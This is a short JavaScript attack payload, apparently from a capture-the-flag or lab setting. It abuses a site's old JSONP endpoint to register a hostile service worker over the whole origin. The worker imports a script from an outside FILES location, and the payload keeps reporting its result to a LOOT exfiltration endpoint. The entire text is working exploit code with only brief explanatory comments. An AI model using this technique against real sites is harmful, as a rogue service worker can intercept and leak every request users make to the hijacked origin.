// A service worker must come from the page's own origin; an old JSONP address says whatever its caller wants.
(async () => {
  const own = (await navigator.serviceWorker.getRegistration())?.active?.scriptURL ?? "";
  const call = `globalThis.APP = ${JSON.stringify(own)}; importScripts(${JSON.stringify(`${FILES}worker.js`)});//`;
  let answer;
  try {
    await navigator.serviceWorker.register(`/rates?callback=${encodeURIComponent(call)}`, { scope: "/" });
    // The app's own may be in charge until ours has taken over.
    for (let n = 0; n < 100; n++) {
      if ((await navigator.serviceWorker.ready).active.scriptURL.includes("/rates")) break;
      await new Promise((go) => setTimeout(go, 50));
    }
    answer = "the worker is there";
  } catch (error) {
    answer = `${error.name}, no worker`;
  }
  // Again and again: while workers change places, a browser may lose a request.
  const tell = () => fetch(LOOT, { method: "POST", mode: "no-cors", body: answer });
  tell();
  setInterval(tell, 1000);
})();
